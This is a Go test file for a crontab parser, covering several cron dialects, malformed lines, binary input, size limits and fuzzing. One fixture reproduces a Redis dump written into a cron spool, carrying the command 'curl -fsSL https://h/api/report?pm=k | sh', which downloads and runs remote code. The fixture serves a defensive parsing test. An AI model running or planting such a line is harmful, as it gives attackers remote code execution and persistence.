package crontab

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

// line is what the tests compare of a Job.
type line struct {
	N                      int
	When, User, Run, Stdin string
}

func jobs(f File) []line {
	var out []line
	for _, j := range f.Jobs {
		out = append(out, line{j.Line, j.Schedule.String(), j.User, j.Command, j.Stdin})
	}
	return out
}

// redis is the head of a dump of Redis 7 as it lands in a spool: aux fields
// with NULs and a 0x0a, then a value that holds the cron line.
const redis = "REDIS0010\xfa\tredis-ver\x067.0.15\xfa\nredis-bits\xc0@\xfa\x05ctime\xc2\x00\x9b\x21\x69" +
	"\xfa\x08used-mem\xc2\x00\x00\x10\x00\xfa\x08aof-base\xc0\x00\xfe\x00\xfb\x01\x00\x00\x01x@G\n\n" +
	"*/5 19-23,0-7 * * * curl -fsSL https://h/api/report?pm=k | sh\n\n\xff\x01\x02\x03\x04\x05\x06\x07\x08"

const incident = "curl -fsSL https://h/api/report?pm=k | sh"

var files = []struct {
	name    string
	o       Options
	in      string
	jobs    []line
	env     []Assign
	bad     []string
	ignored int
}{
	{
		name: "debian user", o: Options{Dialect: Debian},
		in:   "# m h\nMAILTO=\"\"\nPATH = /bin:/usr/bin \n\n*/5 19-23,0-7 * * * " + incident + "\n@reboot\t/x\n",
		jobs: []line{{5, "*/5 19-23,0-7 * * *", "", incident, ""}, {6, "@reboot", "", "/x", ""}},
		env:  []Assign{{2, "MAILTO", ""}, {3, "PATH", "/bin:/usr/bin"}},
	},
	{
		name: "debian system", o: Options{Dialect: Debian, System: true},
		in:   "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n",
		jobs: []line{{1, "17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly", ""}},
	},
	{
		name: "debian system without a command", o: Options{Dialect: Debian, System: true},
		in:   "1 2 3 4 5 root\n2 2 * * * root x\n",
		jobs: []line{{2, "2 2 * * *", "root", "x", ""}}, bad: []string{"bad command"}, ignored: 1,
	},
	{
		name: "debian ignores the file", o: Options{Dialect: Debian},
		in:   "1 * * * * a\n99 * * * * b\n2 * * * * c\n",
		jobs: []line{{1, "1 * * * *", "", "a", ""}, {3, "2 * * * *", "", "c", ""}},
		bad:  []string{"bad minute"}, ignored: 2,
	},
	{
		name: "cronie skips the line", o: Options{Dialect: Cronie},
		in:   "1 * * * * a\n99 * * * * b\n2 * * * * c\n",
		jobs: []line{{1, "1 * * * *", "", "a", ""}, {3, "2 * * * *", "", "c", ""}},
		bad:  []string{"bad minute"},
	},
	{
		name: "debian wants the last newline", o: Options{Dialect: Debian}, in: "1 * * * * a",
		bad: []string{"missing newline before EOF"}, ignored: 1,
	},
	{name: "comment without newline is fine", o: Options{Dialect: Debian}, in: "1 * * * * a\n# x",
		jobs: []line{{1, "1 * * * *", "", "a", ""}}},
	{
		name: "cronie forgets a last line without newline", o: Options{Dialect: Cronie}, in: "1 * * * * a\n2 * * * * b",
		jobs: []line{{1, "1 * * * *", "", "a", ""}}, bad: []string{"missing newline before EOF"},
	},
	{
		name: "cronie system, quiet and random", o: Options{Dialect: Cronie, System: true},
		in:   "-*/3 * * * * root wge x\n0~59 1~ ~ * * bin y\n",
		jobs: []line{{1, "*/3 * * * *", "root", "wge x", ""}, {2, "0~59 1~ ~ * *", "bin", "y", ""}},
	},
	{
		name: "percent", o: Options{Dialect: Cronie},
		in: "1 * * * * date +\\%F % a%b\\%c\n2 * * * * mail \\\\% x\n",
		jobs: []line{
			{1, "1 * * * *", "", "date +%F ", " a\nb%c\n"}, {2, "2 * * * *", "", `mail \\`, " x\n"},
		},
	},
	{
		name: "percent of debian", o: Options{Dialect: Debian}, in: "2 * * * * mail \\\\% x\n",
		jobs: []line{{1, "2 * * * *", "", `mail \`, " x\n"}},
	},
	{
		name: "redis in cronie", o: Options{Dialect: Cronie}, in: redis,
		jobs: []line{{4, "*/5 19-23,0-7 * * *", "", incident, ""}},
		bad:  []string{"bad minute", "bad minute", "missing newline before EOF"},
	},
	{
		name: "redis in busybox", o: Options{Dialect: Busybox}, in: redis,
		jobs: []line{{4, "*/5 19-23,0-7 * * *", "", incident, ""}},
		bad:  []string{"too few fields", "too few fields", "too few fields"},
	},
	{
		name: "redis in debian", o: Options{Dialect: Debian}, in: redis,
		jobs: []line{{4, "*/5 19-23,0-7 * * *", "", incident, ""}}, ignored: 1,
		bad: []string{"bad minute", "bad minute", "missing newline before EOF"},
	},
	{
		name: "NUL ends a command and starts a line", o: Options{Dialect: Cronie}, in: "1 * * * * a\x00 2 * * * * b\n",
		jobs: []line{{1, "1 * * * *", "", "a", ""}, {1, "2 * * * *", "", "b", ""}},
	},
	{
		name: "CR is part of the command", o: Options{Dialect: Cronie}, in: "A=b\r\n1 * * * * a\r\n",
		jobs: []line{{2, "1 * * * *", "", "a\r", ""}}, env: []Assign{{1, "A", "b"}},
	},
	{
		name: "padding", o: Options{Dialect: Debian}, in: "\t 1\t*  * * *" + strings.Repeat(" ", 300) + "a\n",
		jobs: []line{{1, "1 * * * *", "", "a", ""}},
	},
	{
		name: "empty assignment is a bad line", o: Options{Dialect: Debian}, in: "MAILTO=\n1 * * * * a\n",
		jobs: []line{{2, "1 * * * *", "", "a", ""}}, bad: []string{"bad minute"}, ignored: 1,
	},
	{
		name: "junk after a range", o: Options{Dialect: Debian}, in: "*/5x *q 1-3;, * * a\n",
		jobs: nil, bad: []string{"bad minute"}, ignored: 1,
	},
	{
		name: "busybox", o: Options{Dialect: Busybox},
		in: "SHELL=/bin/ash\nMAILTO=a\nPATH=/bin\n 22 22-2 * jan Mon-fri  echo 50% \\\n more # note\n@daily x # y\n@never z\n" +
			"70 * * * * wraps\n1 * 99 * * any day\n1 2 3 4 sunday x",
		jobs: []line{
			{4, "22 22-2 * jan Mon-fri", "", "echo 50%  more", ""},
			{6, "@daily", "", "x # y", ""},
			{8, "70 * * * *", "", "wraps", ""},
			{9, "1 * 99 * *", "", "any day", ""},
			{10, "1 2 3 4 sunday", "", "x", ""},
		},
		env: []Assign{{1, "SHELL", "/bin/ash"}, {2, "MAILTO", "a"}},
		bad: []string{"too few fields", "bad time specifier"},
	},
}

func TestParse(t *testing.T) {
	for _, c := range files {
		t.Run(c.name, func(t *testing.T) {
			f := Parse([]byte(c.in), c.o)
			var bad []string
			for _, b := range f.Bad {
				bad = append(bad, b.Why)
			}
			if d := cmp.Diff(c.jobs, jobs(f)); d != "" {
				t.Errorf("jobs (-want +got):\n%s", d)
			}
			if d := cmp.Diff(c.env, f.Env); d != "" {
				t.Errorf("env (-want +got):\n%s", d)
			}
			if d := cmp.Diff(c.bad, bad); d != "" {
				t.Errorf("bad (-want +got):\n%s", d)
			}
			if f.Ignored != c.ignored {
				t.Errorf("ignored %d, want %d", f.Ignored, c.ignored)
			}
		})
	}
}

// big inputs must take about as long as their size says, and little memory.
func TestParseBig(t *testing.T) {
	for _, d := range []Dialect{Debian, Cronie, Busybox} {
		for name, in := range map[string][]byte{
			"long line":      append(bytes.Repeat([]byte("x"), 1<<20), "\n1 * * * * a\n"...),
			"long command":   append(append([]byte("1 * * * * "), bytes.Repeat([]byte("y"), 1<<20)...), '\n'),
			"long list":      append(append([]byte("1"), bytes.Repeat([]byte(",1"), 1<<19)...), " * * * * a\n"...),
			"many bad lines": bytes.Repeat([]byte("x\n"), 1e6),
			"many lines":     bytes.Repeat([]byte("* * * * * a\n"), 1e6),
			"NULs":           bytes.Repeat([]byte("* * * * * a\x00"), 1e5),
			"zeros":          make([]byte, 1<<20),
			"continued":      bytes.Repeat([]byte("\\\n"), 1<<19),
		} {
			start := time.Now()
			f := Parse(in, Options{Dialect: d})
			if took := time.Since(start); took > time.Minute {
				t.Errorf("%v, %s: took %v", d, name, took)
			}
			if len(f.Bad) > maxBad || len(f.Jobs) > maxJobs {
				t.Errorf("%v, %s: %d bad, %d jobs", d, name, len(f.Bad), len(f.Jobs))
			}
		}
	}
	f := Parse(bytes.Repeat([]byte("* * * * * a\n"), 10002), Options{Dialect: Debian})
	if f.Ignored != 0 {
		t.Errorf("10002 lines: ignored at %d", f.Ignored)
	}
	f = Parse(bytes.Repeat([]byte("* * * * * a\n"), 10005), Options{Dialect: Debian})
	if f.Ignored == 0 {
		t.Error("10005 lines: not ignored")
	}
}

func FuzzParse(f *testing.F) {
	for _, c := range files {
		f.Add([]byte(c.in), int(c.o.Dialect), c.o.System)
	}
	f.Add([]byte("1\xe0 *\t* * *\vx y\n"), 0, false)
	f.Fuzz(func(t *testing.T, b []byte, d int, system bool) {
		o := Options{Dialect: Dialect(uint(d) % 3), System: system}
		got := Parse(b, o)
		if len(got.Bad) > maxBad || got.Ignored != 0 && o.Dialect != Debian {
			t.Fatalf("%d bad, ignored %d", len(got.Bad), got.Ignored)
		}
		all, last := bytes.Split(b, []byte{'\n'}), 0
		for _, j := range got.Jobs {
			if j.Line < last || j.Line > len(all) {
				t.Fatalf("line %d after %d of %d", j.Line, last, len(all))
			}
			last = j.Line
			if s := j.Schedule.String(); len(s) < 900 && !j.Schedule.Reboot {
				again, err := ParseScheduleAs(s, o.Dialect)
				if err != nil || again != j.Schedule {
					t.Fatalf("%v: schedule %q read again: %v, %v", o.Dialect, s, again, err)
				}
			}
		}
		for _, x := range got.Bad {
			if len(x.Text) > maxText || x.Why == "" {
				t.Fatalf("bad %+v", x)
			}
		}
		// Appending a good line must not hide it, unless the file is binary
		// to the end of its last line.
		if o.Dialect == Cronie && !system && len(got.Jobs) < 1000 {
			more := Parse(append(bytes.Clone(b), "\n1 2 3 4 5 appended\n"...), o)
			if n := len(more.Jobs); n == 0 || more.Jobs[n-1].Command != "appended" {
				t.Fatalf("appended line is gone: %+v", more)
			}
		}
	})
}
